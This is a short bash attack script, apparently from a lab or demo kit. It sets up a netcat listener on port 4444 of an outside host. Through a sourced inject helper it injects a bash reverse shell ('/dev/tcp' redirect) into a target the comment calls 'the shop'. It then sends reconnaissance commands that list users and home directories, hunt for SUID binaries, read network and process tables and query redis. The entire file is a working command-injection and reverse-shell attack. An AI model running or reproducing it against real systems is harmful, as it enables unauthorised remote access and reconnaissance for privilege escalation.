#!/bin/bash
# A shell of the shop's user, connected out to the intruder by bash itself.
source "$(dirname "$0")/inject.sh"
{
  sleep 3
  for command in whoami 'ls -la /home' 'find /usr/bin -perm -4000' 'cat /proc/net/tcp' 'ps aux' 'redis-cli info server' exit; do
    echo "$command"
    sleep 1.5
  done
} | timeout 40 nc -l 203.0.113.66 4444 >/dev/null &
sleep 0.5
inject "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'" >/dev/null
wait
